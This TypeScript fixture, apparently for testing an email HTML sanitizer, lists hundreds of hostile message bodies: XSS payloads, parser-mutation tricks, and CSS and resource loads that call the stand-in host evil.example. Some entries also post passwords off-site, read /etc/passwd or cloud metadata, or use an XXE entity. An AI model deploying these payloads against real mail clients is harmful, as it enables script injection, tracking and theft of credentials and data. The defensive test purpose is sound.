/**
 * Messages that attack their reader, by the attack. Sources: the public tests and advisories of Roundcube, SnappyMail,
 * Zimbra, sanitize-html and Tutanota, the HTML and CSS standards, and variations of them.
 */
export const hostileMessages: Record<string, string> = {
  // Scripts, plain and obfuscated
  script: '<script>alert(1)</script>',
  'script in upper case': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script with a slash': '<script/x>alert(1)</script>',
  'script unclosed': '<script>alert(1)',
  'script in a comment that ends early': '<!--><script>alert(1)</script>-->',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onerror with slashes': '<img/src="x"/onerror=alert(1)>',
  'img onerror with a line end': '<img src=x on\nerror=alert(1)>',
  'unquoted attribute soup': '<img src=`x` onerror=alert(1)//',
  'body handlers': '<body onload=alert(1) onpageshow=alert(2)>x',
  'body title that looks like an attribute':
    '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert(origin) foo=bar">Foo</body>',
  'details ontoggle': '<details open ontoggle=alert(1)>x</details>',
  'autofocus onfocus': '<input autofocus onfocus=alert(1)><a tabindex=0 onfocus=alert(1) autofocus>x</a>',
  'marquee onstart': '<marquee onstart=alert(1)>x</marquee>',
  'xss by style animation': '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alert(1)>x</p>',
  'xml island': '<xml onreadystatechange=alert(1)></xml>',
  'custom element': '<x-y onclick=alert(1) is="z">x</x-y>',
  'data attribute hooks': '<p data-controller="x" data-turbo-frame="y">x</p>',
  'noscript and style': '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  'xmp raw text': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'title raw text': '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  'textarea raw text': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'nested forms': '<form><div></form><form><input name=attributes></form></div>',
  clobbering:
    '<form id=x><input name=parentNode><input name=attributes></form><a id=document><a id=document name=body>',
  isindex: '<isindex action="javascript:alert(1)" type=image>',

  // SVG and MathML
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg onload': '<svg/onload=alert(1)>',
  'svg use data': '<svg><use href="data:image/s vg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"></use></svg>',
  'svg use data with a tab': '<svg><use href="data:image/s\tvg+xml;base64,PHN2Zy8+#x"/></svg>',
  'svg animate href with a blank':
    '<svg><a><animate attributeName="href " values="javascript:alert(1)" /><text>x</text></a></svg>',
  'svg animate from to':
    '<svg><a><animate attributeName=xlink:href from=javascript:alert(1) to=javascript:alert(2)></a></svg>',
  'svg set': '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  'svg animate mask': '<svg><rect><animate attributeName="mask" values="url(https://evil.example/m)"/></rect></svg>',
  'svg feImage':
    '<svg><filter><feImage href="https://evil.example/f.png" xlink:href="//evil.example/f"/></filter></svg>',
  'svg unclosed url': '<svg><rect fill="url(http://evil.example/x"/></svg>',
  'svg image': '<svg><image href="https://evil.example/i.png"/></svg>',
  'svg foreignObject': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'svg style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'math href': '<math href="javascript:alert(1)">x</math>',
  'math mglyph mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'annotation-xml':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  mstyle: '<math><mstyle href="javascript:alert(1)">x</mstyle><ms HREF="javascript:alert(1)">y</ms></math>',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'head with xmlns': '<head xmlns="&quot; onload=&quot;alert(1)"><p>x',

  // Addresses
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link with tab': '<a href="java&Tab;script:alert(1)">x</a>',
  'javascript link with newline': '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  'javascript link with entities': '<a href="j&#x61vascript:alert(1)">x</a>',
  'javascript link with control characters': '<a href="\u0001\u0002 javascript:alert(1)">x</a>',
  'javascript link with a zero width space': '<a href="\u200bjavascript:alert(1)">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data html link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data xhtml link': '<a href="data:application/xhtml+xml;base64,PGh0bWw+">x</a>',
  'blob link': '<a href="blob:https://milepost.test/x">x</a>',
  'file link': '<a href="file:///etc/passwd">x</a>',
  'relative link into the panel': '<a href="/api/auth/signout">x</a><a href="//evil.example">y</a><a href="?x">z</a>',
  'link with credentials': '<a href="https://bank.example:pw@evil.example/">x</a>',
  'link with ping': '<a href="https://a.example" ping="https://evil.example/p" target=_top onclick=x>x</a>',
  'area map': '<map><area href="javascript:alert(1)" shape=default></map>',
  base: '<base href="javascript:/a/+alert(1)//"><a href="x">x</a>',
  'base for pictures': '<base href="https://evil.example/"><img src="x.png">',

  // Resource loads
  'remote img': '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  'remote img without a scheme': '<img src="//evil.example/p">',
  'remote img with backslashes': '<img src="https:\\\\evil.example\\p"><img src="\\\\evil.example\\p">',
  'remote img with blanks': '<img src=" \n https://evil.example/p ">',
  'panel img': '<img src="/api/auth/signout"><img src="/api/mail/picture/x.y">',
  srcset:
    '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x"><picture><source srcset="https://evil.example/c"><img></picture>',
  'lowsrc and dynsrc': '<img lowsrc="https://evil.example/l" dynsrc="https://evil.example/d">',
  'data svg img': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'video poster':
    '<video src="https://evil.example/v" poster="https://evil.example/p"><track src="https://evil.example/t"></video>',
  audio: '<audio src="https://evil.example/a" autoplay></audio>',
  embed:
    '<embed src="https://evil.example/e"><object data="https://evil.example/o"><param name=x></object><applet code=x>',
  iframe: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  frameset: '<frameset><frame src="https://evil.example/"></frameset>',
  link: '<link rel=stylesheet href="https://evil.example/s.css"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href=//evil.example>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'meta csp': '<meta http-equiv="Content-Security-Policy" content="img-src *">',
  'body background': '<body background="https://evil.example/b">x',
  'body background that breaks out': '<body background="data:image/png,x);background:url(//evil.example/">x',
  'table background': '<table background="https://evil.example/t"><td background="https://evil.example/d">x',
  'input image':
    '<form action="https://evil.example/"><input type=image src="https://evil.example/i"><button formaction="javascript:alert(1)">x</button></form>',
  'keygen and menu': '<keygen autofocus><menu type=context><menuitem onclick=alert(1)></menu>',
  'portal and fencedframe': '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
  dialog: '<dialog open>Your password<input type=password></dialog>',
  'quote cite':
    '<blockquote cite="https://evil.example/c"><q cite="javascript:alert(1)">x</q><ins cite="https://evil.example">y</ins>',

  // CSS
  'style url': '<p style="background:url(https://evil.example/s)">x</p>',
  'style url escaped': '<p style="background:\\75\\72\\6C (https://evil.example/s)">x</p>',
  'style url with backslashes': '<p style="background:u\\r\\l(https://evil.example/s)">x</p>',
  'style url with a comment': '<p style="background:ur/**/l(https://evil.example/s)">x</p>',
  'style image-set': '<p style="background:image-set(\'//evil.example/s\' 1x)">x</p>',
  'style cross-fade': '<p style="background:cross-fade(url(//evil.example/a),url(//evil.example/b))">x</p>',
  'style variable': '<p style="--x:url(//evil.example/v);background:var(--x,url(//evil.example/w))">x</p>',
  'style border-image':
    '<p style="border-image-source:url(//evil.example/b);mask-image:url(//evil.example/m);shape-outside:url(//evil.example/o)">x</p>',
  'style list and cursor':
    '<li style="list-style-image:url(//evil.example/l);cursor:url(//evil.example/c),auto">x</li>',
  'style expression': '<p style="width:exp/* */ression(alert(1))">x</p>',
  'style full-width expression': '<p style="width:ｅｘｐｒｅｓｓｉｏｎ(alert(1))">x</p>',
  'style behavior': '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">x</p>',
  'style position': '<div style="position:fixed !important;top:0;left:0;width:100%;height:100%">Sign in again</div>',
  'style position with a comment': '<div style="position:/**/fixed;z-index:99999">x</div>',
  'style that ends the attribute': '<p style="color:red;}</style><img src=x onerror=alert(1)>">x</p>',
  'sheet import':
    '<style>@import url(https://evil.example/s.css);@import "https://evil.example/t.css";p{color:red}</style>',
  'sheet import escaped': '<style>@\\69mport "https://evil.example/s.css";@\\5C 69mport "x";</style>',
  'sheet font-face': '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}p{font-family:x}</style>',
  'sheet url': '<style>p{background:url(https://evil.example/x)}</style><p>x</p>',
  'sheet in media': '<style>@media all{p{background:url(https://evil.example/x)}}</style>',
  'sheet in supports':
    '<style>@supports (a:b){p{background:url(https://evil.example/x)}}@layer x{p{background:url(//evil.example)}}</style>',
  'sheet nested rule': '<style>p{&:hover{background:url(https://evil.example/x)}}</style>',
  'sheet attribute selector':
    '<style>input[value^="a"]{background:url(https://evil.example/a)}a[href*=token]{color:red}</style>',
  'sheet content': "<style>p::after{content:'</style><img src=x onerror=alert(1)>'}</style>",
  'sheet with markup in a comment': '<style>/*</style><img src=x onerror=alert(1)>*/</style>',
  'sheet with html comment': '<style><!-- p{background:url(https://evil.example)} --></style>',
  'sheet unclosed': '<style>p{background:url(https://evil.example',
  'sheet string with a brace': '<style>p{color:"}";background:url(https://evil.example/x)}</style>',
  'sheet of our own names': '<style>.mp-message{display:none}html,body{position:fixed}</style>',
  'style link in svg': '<svg><style>@import "https://evil.example/s.css";</style></svg>',

  // More scripts
  'script with a null': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'script within script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script as a module': '<script type="module">import("https://evil.example/m.js")</script>',
  'script as an import map': '<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>',
  'script speculation rules':
    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
  'script after a null in a tag': '<\u0000script>alert(1)</script>',
  'script in an unknown declaration': '<!x><script>alert(1)</script><?php <script>alert(2)</script> ?>',
  'script after a bogus comment': '</ ><script>alert(1)</script>',
  'script in a comment that never ends': '<!-- <script>alert(1)</script>',
  'script in a nested comment': '<!-- x --!><img src=x onerror=alert(1)> -->',
  'script by a stray end tag': '</p><script>alert(1)</script></body></html><script>alert(2)</script>',
  'script in a select': '<select><option><script>alert(1)</script></option></select>',
  'script in a table': '<table><script>alert(1)</script><tr><td>x',
  'script in a frame without frames':
    '<noframes><script>alert(1)</script></noframes><noembed><script>alert(1)</script></noembed>',
  'template with a shadow root': '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
  slot: '<slot name="x" onslotchange=alert(1)><img src=x onerror=alert(1)></slot>',

  // More event handlers
  'handler with a form feed': '<img\u000csrc=x\u000conerror=alert(1)>',
  'handler in mixed case': '<iMg SrC=x OnErRoR=alert(1)>',
  'handler named twice': '<img onerror=x onerror=alert(1) src=x src=y>',
  'handler with a quote in its name': '<img src=x "onerror=alert(1)>',
  'handler by entity': '<img src=x &#111;nerror=alert(1)>',
  'handlers of the pointer':
    '<div onpointerover=alert(1) onpointerrawupdate=alert(1) ongotpointercapture=alert(1)>x</div>',
  'handlers of the keyboard': '<p contenteditable oninput=alert(1) onbeforeinput=alert(1) onkeydown=alert(1)>x</p>',
  'handlers of the clipboard': '<p oncopy=alert(1) oncut=alert(1) onpaste=alert(1)>x</p>',
  'handlers of transitions': '<p style="transition:all 1s" ontransitionend=alert(1) ontransitionrun=alert(1)>x</p>',
  'handler of visibility': '<div oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</div>',
  'handlers of scrolling':
    '<div onscroll=alert(1) onscrollend=alert(1) onscrollsnapchange=alert(1) style="overflow:auto">x</div>',
  'handlers of popovers':
    '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1) ontoggle=alert(1)>y</div>',
  'handlers of dialogs': '<dialog open onclose=alert(1) oncancel=alert(1)>x</dialog>',
  'command invokers': '<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=alert(1)>y</dialog>',
  'handlers of media':
    '<video onloadstart=alert(1) oncanplay=alert(1) src=data:video/mp4,><source onerror=alert(1) src=x></video>',
  'handlers of search': '<input type=search onsearch=alert(1) autofocus onfocusin=alert(1)>',
  'access key': '<a href="javascript:alert(1)" accesskey=x>x</a><div accesskey=y onclick=alert(1)>y</div>',
  'handlers on the root of the message':
    '<html onclick=alert(1)><body onblur=alert(1) onresize=alert(1) onhashchange=alert(1)>x',

  // More SVG and MathML
  'svg script by href': '<svg><script href="https://evil.example/x.js"></script></svg>',
  'svg a in xlink': '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
  'svg discard and handler': '<svg><discard onbegin=alert(1)><animatetransform onbegin=alert(1)></svg>',
  'svg title that holds markup': '<svg><title><img src=x onerror=alert(1)></title></svg>',
  'svg desc that holds markup': '<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>',
  'svg in a table cell': '<table><td><svg><tr><td><img src=x onerror=alert(1)></svg></table>',
  'svg use of another document': '<svg><use href="https://evil.example/s.svg#x"/></svg>',
  'svg mpath and textpath':
    '<svg><mpath href="https://evil.example/p#x"/><textPath href="//evil.example/t#x">x</textPath></svg>',
  'svg pattern and gradient':
    '<svg><pattern href="//evil.example/p#x"/><linearGradient xlink:href="//evil.example/g#x"/></svg>',
  'svg cursor': '<svg><cursor xlink:href="https://evil.example/c"/></svg>',
  'svg font face':
    '<svg><font-face><font-face-src><font-face-uri xlink:href="//evil.example/f"/></font-face-src></font-face></svg>',
  'svg handler element':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  'svg within math': '<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>',
  'svg by namespace prefix': '<svg:svg onload=alert(1)><svg:script>alert(1)</svg:script></svg:svg>',
  'math maction':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x<mtext>y</mtext></maction></math>',
  'math semantics':
    '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></semantics></math>',
  'math style mutation': '<math><mi><style><!--</mi></math><img src=x onerror=alert(1)>--></style>',
  'math in a heading':
    '<h1><math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  'deep foreign mutation':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'table mutation with a foreign part':
    '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=alert(1)>">',
  'font breaks out of svg': '<svg><font color=x><img src=x onerror=alert(1)></font></svg>',
  'p breaks out of math': '<math><p><style><img src=x onerror=alert(1)></style></math>',

  // More addresses
  'javascript link in upper case': '<a href="JAVASCRIPT:alert(1)">x</a>',
  'javascript link with a decimal entity': '<a href="&#0000106avascript:alert(1)">x</a>',
  'javascript link with a comment': '<a href="javascript://evil.example/%0aalert(1)">x</a>',
  'javascript link with a soft hyphen': '<a href="java\u00adscript:alert(1)">x</a>',
  'javascript link with a byte order mark': '<a href="\ufeffjavascript:alert(1)">x</a>',
  'javascript link with a carriage return': '<a href="java\rscript:alert(1)">x</a>',
  'javascript link in xlink': '<a xlink:href="javascript:alert(1)">x</a>',
  'view-source link': '<a href="view-source:javascript:alert(1)">x</a>',
  'filesystem link': '<a href="filesystem:https://milepost.test/temporary/x.html">x</a>',
  'intent and android links': '<a href="intent://x#Intent;scheme=http;end">x</a><a href="android-app://x">y</a>',
  'ms-office link': '<a href="ms-word:ofe|u|https://evil.example/x.docm">x</a><a href="search-ms:query=x">y</a>',
  'feed and jar links': '<a href="feed:javascript:alert(1)">x</a><a href="jar:https://evil.example/x.jar!/">y</a>',
  'about link': '<a href="about:blank#x">x</a><a href="chrome://settings">y</a>',
  'link to a frame of ours':
    '<a href="https://evil.example/" target="_parent">x</a><a href="https://evil.example/" target="mail">y</a>',
  'link that brings its opener': '<a href="https://evil.example/" rel="opener" target="_blank">x</a>',
  'link to an attachment of its own': '<a href="https://evil.example/x.html" download="invoice.pdf">x</a>',
  'link with a backslash': '<a href="https:\\\\evil.example\\x">x</a><a href="\\\\evil.example">y</a>',
  'link with an ipv6 and a port': '<a href="https://[::1]:22/">x</a>',
  'link that reports itself': '<a href="https://shop.example" attributionsrc="https://evil.example/a">x</a>',
  'link that hides direction': '<a href="https://evil.example/\u202egpj.exe">photo\u202egpj.exe</a>',
  'mailto with headers': '<a href="mailto:x@y.example?bcc=evil@evil.example&attach=/etc/passwd&body=%0d%0aX:">x</a>',
  'image map':
    '<img usemap="#m" src="cid:none"><map name=m><area shape=rect coords=0,0,9,9 href="https://evil.example/"></map>',
  'server image map': '<a href="https://evil.example/"><img ismap src="cid:none"></a>',

  // More resource loads
  'img with a sized source':
    '<img sizes="100vw" srcset="https://evil.example/w 100w" loading=eager fetchpriority=high>',
  'img crossorigin': '<img crossorigin=use-credentials src="https://evil.example/c">',
  'img by an uncommon name': '<image src="https://evil.example/i"><image href="https://evil.example/h">',
  'img from this very host': '<img src="http://localhost/"><img src="http://127.0.0.1:1/"><img src="http://[::1]/">',
  'img from the cloud’s inside': '<img src="http://169.254.169.254/latest/meta-data/">',
  'img with an odd scheme':
    '<img src="ftp://evil.example/x"><img src="blob:https://evil.example/x"><img src="ws://evil.example/">',
  'img data with script inside':
    '<img src="data:text/html,<script>alert(1)</script>"><img src="data:image/png,<svg onload=alert(1)>">',
  'link preload':
    '<link rel=preload as=image href="https://evil.example/p"><link rel=modulepreload href="//evil.example/m">',
  'link prefetch and prerender':
    '<link rel=prefetch href="https://evil.example/"><link rel=prerender href="//evil.example/">',
  'link icon and manifest':
    '<link rel=icon href="//evil.example/i.ico"><link rel=manifest href="//evil.example/m.json">',
  'link in the body': '<body><p>x<link itemprop=x rel="stylesheet alternate" href="https://evil.example/s.css">',
  'meta refresh to script':
    '<meta http-equiv=refresh content="0; url=javascript:alert(1)"><meta http-equiv=refresh content="0;url=data:text/html,x">',
  'meta cookie and others':
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=origin-trial content=x><meta name=referrer content=unsafe-url>',
  'meta charset': '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'charset trick of Japanese':
    '<meta charset="iso-2022-jp"><a title="\u001b$B">x</a><a title="\u001b(B><img src=x onerror=alert(1)>">',
  'manifest and profile': '<html manifest="https://evil.example/m"><head profile="https://evil.example/p"><p>x',
  'object with a fallback':
    '<object type="text/html" data="data:text/html,<script>alert(1)</script>"><img src="//evil.example/f"></object>',
  'object codebase':
    '<object codebase="https://evil.example/" classid="clsid:x" archive="//evil.example/a"><param name=movie value="//evil.example/s.swf"></object>',
  'bgsound and layers':
    '<bgsound src="//evil.example/b"><layer src="//evil.example/l"></layer><ilayer src="//evil.example/i">',
  'iframe that names policies':
    '<iframe srcdoc="<img src=//evil.example/i>" sandbox="allow-scripts allow-same-origin" allow="camera"></iframe>',
  'webview and controlled frame':
    '<webview src="https://evil.example/"></webview><controlledframe src="//evil.example"></controlledframe>',
  'form that sends itself':
    '<form id=f action="https://evil.example/f" target=_top><input name=password autofocus></form><input form=f type=submit formtarget=_top>',
  'form by another method':
    '<form method=dialog action="https://evil.example/"><button name=x value=y>Continue</button></form>',
  'text area for scraping': '<form action="https://evil.example/"><textarea name=t>',
  'track and source of sound':
    '<audio controls><source src="https://evil.example/a.mp3"><track src="//evil.example/t.vtt" default></audio>',
  'math and link types':
    '<menu><li><a type="application/x" media="all" hreflang=x href="javascript:alert(1)">x</a></menu>',

  // More CSS
  'style src()': '<p style="background:src(\'https://evil.example/s\')">x</p>',
  'style url with a string': '<p style="background:URL(\'https://evil.example/s\')">x</p>',
  'style url with odd blanks': '<p style="background:url(\n\f https://evil.example/s \n)">x</p>',
  'style url that is cut short': '<p style="background:url(https://evil.example/s">x</p>',
  'style element()': '<p style="background:-moz-element(#x);background:paint(x)">x</p>',
  'style filter': '<p style="filter:url(https://evil.example/f.svg#x);backdrop-filter:url(//evil.example)">x</p>',
  'style clip and mask':
    '<p style="clip-path:url(//evil.example/c#x);-webkit-mask-image:url(//evil.example/m);mask:url(//evil.example/n)">x</p>',
  'style offset': '<p style="offset-path:url(//evil.example/o#p);motion-path:url(//evil.example)">x</p>',
  'style content': '<p style="content:url(//evil.example/c)">x</p>',
  'style sticks to the window':
    '<div style="position:sticky;top:0">x</div><div style="POSITION:\\66ixed;inset:0">y</div>',
  'style covers the page':
    '<div style="margin-top:-9999px;transform:scale(99);width:100vw;height:100vh;z-index:2147483647">x</div>',
  'style anchor': '<div style="position-anchor:--x;inset-area:top;position:absolute">x</div>',
  'style attr()': '<p data-x="//evil.example/a" style="background:attr(data-x type(<url>))">x</p>',
  'style env and var': '<p style="background:env(x,url(//evil.example/e));color:var(--y,url(//evil.example/f))">x</p>',
  'sheet charset': '<style>@charset "utf-7";@namespace svg url(https://evil.example/ns);p{color:red}</style>',
  'sheet import with layers':
    '<style>@import url("https://evil.example/i.css") layer(x) supports(display:grid) screen;</style>',
  'sheet property': '<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(//evil.example/p)}</style>',
  'sheet counter style': '<style>@counter-style x{system:cyclic;symbols:url(//evil.example/c)}li{list-style:x}</style>',
  'sheet container and scope':
    '<style>@container (width>0){p{background:url(//evil.example/k)}}@scope (p){:scope{background:url(//evil.example/l)}}</style>',
  'sheet starting style':
    '<style>@starting-style{p{background:url(//evil.example/q)}}@view-transition{navigation:auto}</style>',
  'sheet keyframes': '<style>@keyframes k{from{background:url(//evil.example/k)}}p{animation:k 1s}</style>',
  'sheet page and document':
    '<style>@page{background:url(//evil.example/g)}@document url(https://x){p{background:url(//evil.example/d)}}</style>',
  'sheet null': '<style>p{back\u0000ground:url(//evil.example/n)}</style>',
  'sheet escape at the end': '<style>p{color:red\\</style><img src=x onerror=alert(1)>',
  'sheet string over lines': '<style>p{font-family:"a\\\nb;background:url(//evil.example/l)"}</style>',
  'sheet bad string': '<style>p{font-family:"a\n;background:url(//evil.example/b)}</style>',
  'sheet of visited links':
    '<style>a:visited{background:url(//evil.example/v)}a:link{background:url(//evil.example/w)}</style>',
  'sheet has()': '<style>html:has(input[value^=a]){background:url(//evil.example/h)}</style>',
  'sheet by media type': '<style media="x, all" onload=alert(1)>p{background:url(//evil.example/m)}</style>',
  'sheet of another type': '<style type="text/less">p{background:url(//evil.example/z)}</style>',
  'sheet in the body, in a table': '<table><style>td{background:url(//evil.example/t)}</style><tr><td>x</table>',

  // Text that looks like our own
  'names of ours': '<div class="mp-message" id="content"><a name="parentNode">x</a><img name="cookie"></div>',
  'roles and labels':
    '<div role="alertdialog" aria-label="Session expired" aria-modal=true tabindex=1>Sign in again</div>',
  'attributes of the page’s own tools':
    '<div hx-get="https://evil.example" x-init="alert(1)" v-html="alert(1)" ng-app ng-init="alert(1)">{{constructor.constructor("alert(1)")()}}</div>',
  'editing and dragging': '<p contenteditable draggable=true inputmode=none enterkeyhint=send spellcheck=true>x</p>',
  'direction marks': '<p>\u202e\u2066evil\u2069 <bdo dir=rtl>gnp.exe</bdo></p>',
  'microdata and parts':
    '<p itemscope itemtype="https://evil.example/t" itemid="javascript:1" part=x exportparts=y nonce=z>x</p>',
  'processing instructions':
    '<?xml-stylesheet href="https://evil.example/s.xsl" type="text/xsl"?><?import namespace="t" implementation="#x">',
  'document type with an entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;</p>',
};
